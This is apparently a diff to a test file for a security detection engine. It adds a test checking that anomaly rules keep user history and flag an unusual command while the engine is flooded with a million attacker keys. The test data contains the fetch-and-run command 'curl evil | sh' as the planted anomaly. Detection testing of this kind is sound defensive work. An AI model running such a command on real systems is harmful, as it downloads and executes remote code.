@@ -28,13 +28,13 @@ interface Attack {
   readonly highestBytes: number;
 }
 
-/** The planted events, one before every so many hostile ones, and what the engine came to. */
-async function play(rules: readonly Wire[], stateBytes: number, linesOf: (i: number) => readonly string[]): Promise<Attack> {
+/** What the engine came to; `step`: only one in so many of the attacker's keys comes. */
+async function play(rules: readonly Wire[], stateBytes: number, linesOf: (i: number) => readonly string[], step = 1): Promise<Attack> {
   const engine = await createEngine({ rules, stateBytes });
   let highestBytes = 0;
   for (let from = 0; from < KEYS; from += PUSH) {
     const lines: string[] = [];
-    for (let i = from; i < from + PUSH; i++) lines.push(...linesOf(i));
+    for (let i = from; i < from + PUSH; i += step) lines.push(...linesOf(i));
     await engine.push(encoder.encode(`${lines.join("\n")}\n`), { format: "raw", arrivalMs: 0 });
     await engine.flush();
     highestBytes = Math.max(highestBytes, engine.stats().stateBytes);
@@ -96,6 +96,20 @@ describe("a million fresh keys of an attacker", () => {
     expect(told).toBeGreaterThan(749_000);
     expect(told).toBeLessThanOrEqual(750_000);
   }, 120_000);
+
+  test("[DE-23] content anomaly: a quarter as many groups; a user in use and another rule's users keep their history, and the odd command is found", async () => {
+    const rule = (id: string, field: string): Wire =>
+      ruleOf(id, "anomaly_threshold", { evaluationWindow: 600, contentAnomalyOptions: { learningDuration: 1, forgetAfter: 4 } }, { query: `@${field}:*`, aggregation: "count", metrics: [`@${field}`] }, "a > 0");
+    const attack = await play([rule("flooded", "c"), rule("quiet", "d")], 96 * MB, (i) => {
+      const line = `{"timestamp":${learnedMs(i)},"u":"key${i}","c":"ls -la /home"}`;
+      if (i % 2000) return [line];
+      const command = i === 900_000 ? "curl evil | sh" : "kubectl get pods -n prod";
+      return [`{"timestamp":${learnedMs(i)},"u":"ann","c":"${command}"}`, ...(i % 10_000 ? [] : [`{"timestamp":${learnedMs(i)},"u":"bob","d":"${command}"}`]), line];
+    }, 4);
+    expect(attack.highestBytes).toBeLessThanOrEqual(96 * MB);
+    expect(attack.stats.evicted).toBeGreaterThan(200_000);
+    expect(attack.signals.map(({ ruleId, group, firstSeenMs }) => [ruleId, group["@u"], firstSeenMs])).toEqual([["flooded", "ann", learnedMs(900_000)], ["quiet", "bob", learnedMs(900_000)]]);
+  }, 240_000);
 
   test("one rule's flood costs another rule nothing", async () => {
     const flooded = { ...newValue, id: "flooded", queries: [{ ...(newValue.queries as Wire[])[0], query: "@c:*" }] };
